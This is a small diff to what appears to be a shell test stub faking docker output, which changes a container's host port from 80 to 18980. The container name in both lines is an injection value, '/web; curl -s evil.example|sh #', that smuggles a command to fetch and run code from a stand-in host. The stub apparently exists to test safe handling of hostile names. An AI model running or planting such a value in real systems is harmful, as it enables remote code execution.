@@ -41,7 +41,7 @@ forged)
   ;;
 names)
   echo 29.1.0
-  container '"/web; curl -s evil.example|sh #"' running '{}' '{"80/tcp":[{"HostPort":"80"}]}'
+  container '"/web; curl -s evil.example|sh #"' running '{}' '{"80/tcp":[{"HostPort":"18980"}]}'
   ;;
 taken)
   echo 29.1.0
